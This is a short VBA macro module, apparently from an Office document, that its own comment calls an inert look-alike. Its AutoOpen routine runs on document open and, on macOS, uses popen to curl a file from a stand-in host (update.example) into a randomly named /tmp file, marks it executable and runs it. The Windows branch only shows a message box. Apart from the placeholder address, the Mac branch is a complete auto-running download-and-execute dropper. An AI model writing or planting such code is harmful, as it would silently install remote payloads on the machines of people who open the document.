Attribute VB_Name = "Module1"
' An inert look-alike: conditional compilation tells Mac from Windows.
#If Mac Then
    #If VBA7 Then
Private Declare PtrSafe Function popen Lib "libc.dylib" (ByVal command As String, ByVal mode As String) As LongPtr
    #Else
Private Declare Function popen Lib "libc.dylib" (ByVal command As String, ByVal mode As String) As Long
    #End If
Const Address As String = "https://update.example/assets/mt.dat"

Sub Run(ByVal command As String)
    popen command, "r"
End Sub
#Else
Const Address As String = "https://update.invalid/win"
#End If

Sub AutoOpen()
#If Mac Then
    Dim name As String, i As Integer
    name = "/tmp/"
    For i = 1 To 13
        name = name & Chr(97 + Int(Rnd * 26))
    Next
    Run "curl -o " & name & " " & Address
    Run "chmod +x " & name
    Run name
#Else
    MsgBox "Opened on Windows " & Address
#End If
End Sub
